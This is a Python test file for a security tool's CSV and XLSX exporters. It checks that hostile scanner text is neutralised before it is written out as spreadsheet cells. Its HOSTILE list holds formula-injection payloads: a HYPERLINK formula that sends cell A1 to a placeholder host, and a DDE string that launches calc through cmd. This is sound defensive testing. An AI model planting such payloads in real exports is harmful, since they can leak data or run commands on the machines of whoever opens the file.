"""No CSV or XLSX cell that cityguard writes runs as a spreadsheet formula.

Before the fix `findings list --format csv` wrote scanner text such as `=HYPERLINK(…)` as is
(the report CSVs did not). Every CSV now goes through core/csvsafe.py; XLSX text cells that
start the same way are string cells with Excel's quote prefix. The hostile text comes from a
real SARIF file imported into a real store, as a scanner of others would write it.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from bounded import run_bounded

from cityguard.core.csvsafe import FORMULA_START, csv_line, formula_like, safe_cell, write_csv

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "checks"
CHECK = "ssh.sshd.empty_passwords_refused"
HOSTILE = ['=HYPERLINK("http://x/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


def _sarif(tmp_path: Path) -> Path:
    results = [{"ruleId": text, "level": "error", "message": {"text": text},
                "locations": [{"physicalLocation": {"artifactLocation": {"uri": f"{text}.py"},
                                                    "region": {"startLine": n + 1}}}]}
               for n, text in enumerate(HOSTILE)]
    doc = {"version": "2.1.0", "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
           "runs": [{"tool": {"driver": {"name": "=cmd"}}, "results": results}]}
    path = tmp_path / "hostile.sarif"
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def _assert_no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(FORMULA_START)]
    assert not bad, bad


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text and formula_like(text)
    assert safe_cell(-2) == -2 and safe_cell(1.5) == 1.5 and safe_cell(None) == ""
    assert safe_cell("fine =") == "fine ="


def test_the_one_writer_streams_and_writes_files() -> None:
    assert csv_line(["=1", 2, None]) == "'=1,2,\n"
    assert csv_line(["a\rb", "c\nd"]) == '"a\rb","c\nd"\n'  # line breaks in cells: quoted
    out = io.BytesIO()
    write_csv(out, ["a"], [["+x"], ["中文"]])
    assert out.getvalue().decode("utf-8-sig") == "a\r\n'+x\r\n中文\r\n"


def test_findings_list_csv_neutralises_every_cell(tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    p = run_bounded("scans", "import", str(_sarif(tmp_path)), "--store", str(store),
                    timeout=120)
    assert p.returncode == 0, p.stderr
    p = run_bounded("findings", "list", "--format", "csv", "--store", str(store), timeout=120)
    assert p.returncode == 0, p.stderr
    rows = list(csv.reader(io.StringIO(p.stdout)))
    # (text mode turns the CR inside one quoted cell into a line break: count by id)
    assert len({r[0] for r in rows[1:] if r and r[0].isdigit()}) == len(HOSTILE)
    cells = [c for row in rows for c in row]
    _assert_no_formula(cells)
    assert any(c == "'" + HOSTILE[0] for c in cells)  # the text is kept, only neutralised


def test_report_csv_and_xlsx_cells(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    host = tmp_path / "host"
    shutil.copytree(FIXTURES / CHECK / "fail", host)
    out = tmp_path / "out"
    p = run_bounded("assess", "--target", f"dir:{host}", "--only", CHECK, "--scan",
                    str(_sarif(tmp_path)), "--format", "csv,xlsx", "--output", str(out),
                    "--no-store", "-q", cwd=tmp_path, timeout=120)
    assert p.returncode in (0, 1), p.stderr
    for name in ("findings.csv", "items.csv"):
        rows = list(csv.reader(io.StringIO((out / name).read_text(encoding="utf-8-sig"))))
        _assert_no_formula([c for row in rows for c in row])
    book = load_workbook(out / "assessment.xlsx")
    hostile_cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
                     if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert hostile_cells, "the hostile finding text should be in the workbook"
    for c in hostile_cells:  # text with Excel's quote prefix, never a formula
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
